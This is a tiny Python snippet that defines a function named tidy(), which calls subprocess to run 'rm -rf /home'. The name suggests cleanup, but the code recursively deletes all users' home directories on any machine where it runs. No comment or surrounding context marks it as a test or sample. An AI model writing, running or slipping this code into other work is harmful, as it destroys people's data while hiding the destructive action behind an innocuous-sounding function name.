import subprocess


def tidy():
    subprocess.run(["rm", "-rf", "/home"])
